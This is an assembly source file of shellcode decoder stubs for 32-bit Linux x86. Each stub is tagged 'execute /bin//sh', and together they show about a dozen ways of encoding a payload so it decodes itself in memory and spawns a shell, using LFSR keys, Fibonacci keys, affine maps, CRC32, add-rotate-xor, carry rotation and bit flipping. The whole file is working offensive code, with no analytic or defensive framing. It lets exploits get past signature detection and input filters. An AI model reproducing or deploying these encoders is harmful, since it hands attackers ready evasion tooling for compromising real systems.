; Decoders by what they decode with: registers that shift, numbers that grow, ciphers without a name, the code itself, flags
; and bits. All hide the payload of payload.inc: whatever the decoder, it is one kind.

;= lfsr_key 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push byte LENGTH
	pop ecx
	mov al, 0x9d
next:	xor [esi + ecx - 1], al
	shr al, 1
	jnc even
	xor al, 0xb8
even:	loop next
	jmp esi
down:	call up
; the key is run from the last byte on
%assign j 0
%rep LENGTH
%assign key 0x9d
%rep LENGTH - 1 - j
%assign key (key >> 1) ^ ((key & 1) * 0xb8)
%endrep
FROM j
	db c ^ key
%assign j j + 1
%endrep

;= fibonacci_key 32 | linux x86 | execute /bin//sh
	call here
here:	pop edi
	lea edi, [edi + payload - here]
	xor eax, eax
	cdq
	inc edx
	push byte LENGTH
	pop ecx
next:	xadd eax, edx
	xor [edi], al
	inc edi
	loop next
%assign key 1
payload:
%assign low 0
%assign high 1
%assign j 0
%rep LENGTH
%assign sum (low + high) & 0xff
FROM j
	db c ^ sum
%assign high low
%assign low sum
%assign j j + 1
%endrep

;= key_is_the_count 32 | linux x86 | execute /bin//sh
	call here
here:	pop edx
	push byte LENGTH
	pop ecx
	lea edx, [edx + payload - here - 1]
next:	xor [edx + ecx], cl
	loop next
	jmp short payload
payload: ENCODE c ^ (i + 1)

;= key_is_its_own_code 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov eax, [esi - 5]
	mov edi, esi
	xor ecx, ecx
	mov cl, LENGTH / 4
next:	xor [edi], eax
	rol eax, 7
	scasd
	loop next
	jmp esi
down:	call up
%assign key (0xe8 | ((-(25)) << 8)) & 0xffffffff
%assign j 0
%rep LENGTH / 4
DOUBLE j
	dd c ^ key
%assign key ((key << 7) | (key >> 25)) & 0xffffffff
%assign j j + 1
%endrep

;= affine 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	push byte LENGTH
	pop ecx
	mov dl, 0x1d
next:	lodsb
	sub al, 0x67
	mul dl
	stosb
	loop next
	jmp short payload
down:	call up
payload: ENCODE c * 0x35 + 0x67

;= squares 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop edi
	xor eax, eax
	xor ecx, ecx
	inc ecx
next:	add eax, ecx
	inc ecx
	inc ecx
	sub [edi], al
	inc edi
	cmp ecx, byte 2 * LENGTH + 1
	jb next
	jmp short payload
down:	call up
payload: ENCODE c + (i + 1) * (i + 1)

;= add_rotate_xor 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov eax, 0x61707865
	mov ebx, 0x3320646e
	mov edx, 0x79622d32
	push byte LENGTH / 4
	pop ecx
	push esi
next:	add eax, ebx
	xor edx, eax
	rol edx, 16
	add ebx, edx
	ror eax, 7
	xor eax, ebx
	xor [esi], eax
	add esi, byte 4
	loop next
	ret
down:	call up
%assign ka 0x61707865
%assign kb 0x3320646e
%assign kd 0x79622d32
%assign j 0
%rep LENGTH / 4
%assign ka (ka + kb) & 0xffffffff
%assign kd kd ^ ka
%assign kd ((kd << 16) | (kd >> 16)) & 0xffffffff
%assign kb (kb + kd) & 0xffffffff
%assign ka ((ka >> 7) | (ka << 25)) & 0xffffffff
%assign ka ka ^ kb
DOUBLE j
	dd c ^ ka
%assign j j + 1
%endrep

;= crc_instruction_key 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	xor eax, eax
	xor ecx, ecx
next:	crc32 eax, cl
	xor [esi + ecx], al
	inc ecx
	cmp cl, LENGTH
	jb next
	jmp esi
down:	call up
%assign key 0
%assign j 0
%rep LENGTH
%assign key key ^ j
%rep 8
%assign key (key >> 1) ^ ((key & 1) * 0x82f63b78)
%endrep
FROM j
	db c ^ (key & 0xff)
%assign j j + 1
%endrep

;= subtracts_the_next 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push byte LENGTH
	pop ecx
	push esi
next:	mov al, [esi + 1]
	sub [esi], al
	inc esi
	loop next
	ret
down:	call up
%assign j LENGTH
%assign key 0x77
%assign j 0
%rep LENGTH
%assign sum 0x77
%assign n LENGTH - 1
%rep LENGTH - j
FROM n
%assign sum (sum + c) & 0xff
%assign n n - 1
%endrep
	db sum
%assign j j + 1
%endrep
	db 0x77

;= borrowed_digits 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	push byte LENGTH
	pop ecx
	xor ebx, ebx
next:	lodsb
	sbb al, 0x7e
	stosb
	loop next
	jmp short payload
down:	call up
; cf before each is the borrow of the one before; xor clears the first
payload:
%assign key 0
%assign j 0
%rep LENGTH
FROM j
%assign e (c + 0x7e + key) & 0xff
	db e
%assign key ((e - 0x7e - key) < 0)
%assign j j + 1
%endrep

;= through_the_carry 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	add esi, byte payload - here
	push byte LENGTH
	pop ecx
	clc
next:	rcr byte [esi], 1
	inc esi
	loop next
payload:
%assign j 0
%rep LENGTH
%assign bit 0
%if j + 1 < LENGTH
FROM j + 1
%assign bit c >> 7
%endif
FROM j
	db ((c << 1) & 0xff) | bit
%assign j j + 1
%endrep

;= bits_changed 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	xor ecx, ecx
next:	btc [esi], ecx
	add ecx, byte 3
	cmp ecx, LENGTH * 8
	jl next
	jmp esi
down:	call up
%assign j 0
%rep LENGTH
%assign mask 0
%assign bit 0
%rep 8
%if (j * 8 + bit) % 3 == 0
%assign mask mask | (1 << bit)
%endif
%assign bit bit + 1
%endrep
FROM j
	db c ^ mask
%assign j j + 1
%endrep
